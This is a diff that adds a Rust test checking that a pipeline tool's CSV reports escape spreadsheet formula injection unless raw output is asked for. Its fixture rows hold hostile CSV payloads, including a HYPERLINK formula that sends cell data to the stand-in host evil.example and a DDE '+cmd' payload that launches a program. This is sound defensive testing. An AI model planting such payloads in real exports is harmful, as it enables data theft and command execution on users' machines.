@@ -939,3 +939,50 @@ fn a_run_killed_at_any_step_of_its_commit_loses_no_night() {
     assert_eq!(next.exit, Exit::Ok);
     assert!(f.path("out").join(&live).exists(), "pid 1 is running");
 }
+
+#[test]
+fn csv_outputs_neutralise_formulas_unless_asked_not_to() {
+    let hostile = [
+        "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"",
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "-2+3",
+        "\"\t=1+1\"",
+    ];
+    let mut accounts = String::from("account_id,seats,segment\n");
+    for id in hostile {
+        accounts.push_str(&format!("{id},1,smb\n"));
+    }
+    accounts.push_str("plain,1,smb\n");
+    let f = Fixture::new(&[
+        ("accounts.csv", &accounts),
+        ("events.csv", "account_id,event_time\n"),
+        ("p.yaml", PLAYBOOK_PIPELINE),
+    ]);
+    let write = |raw_csv: bool| {
+        let mut options = f.options("2026-11-01");
+        options.format = Some(vane::base::FileFormat::Csv);
+        options.raw_csv = raw_csv;
+        let report = commands::run(&f.path("p.yaml"), &options, &|_| {});
+        assert_eq!(report.exit, Exit::Ok, "{:?}", report.diagnostics);
+        let night = f.path("out/as_of=2026-11-01");
+        let read = |file: &str| std::fs::read_to_string(night.join(file)).expect("csv");
+        (read("scorecard.csv"), read("actions.csv"))
+    };
+    let (scorecard, actions) = write(false);
+    for text in [&scorecard, &actions] {
+        for start in ["=HYPERLINK", "+cmd", "@SUM", "-2+3", "\t=1+1"] {
+            assert!(text.contains(&format!("'{start}")), "{start:?} in\n{text}");
+            let bare = text
+                .lines()
+                .flat_map(|l| l.split(','))
+                .any(|cell| cell.trim_start_matches('"').starts_with(start));
+            assert!(!bare, "{start:?} left as a formula in\n{text}");
+        }
+        assert!(text.contains("plain"), "{text}");
+        assert!(!text.contains("'plain"), "{text}");
+    }
+    let (scorecard, _) = write(true);
+    assert!(scorecard.contains("\n+cmd"), "{scorecard}");
+    assert!(!scorecard.contains("'+cmd"), "{scorecard}");
+}
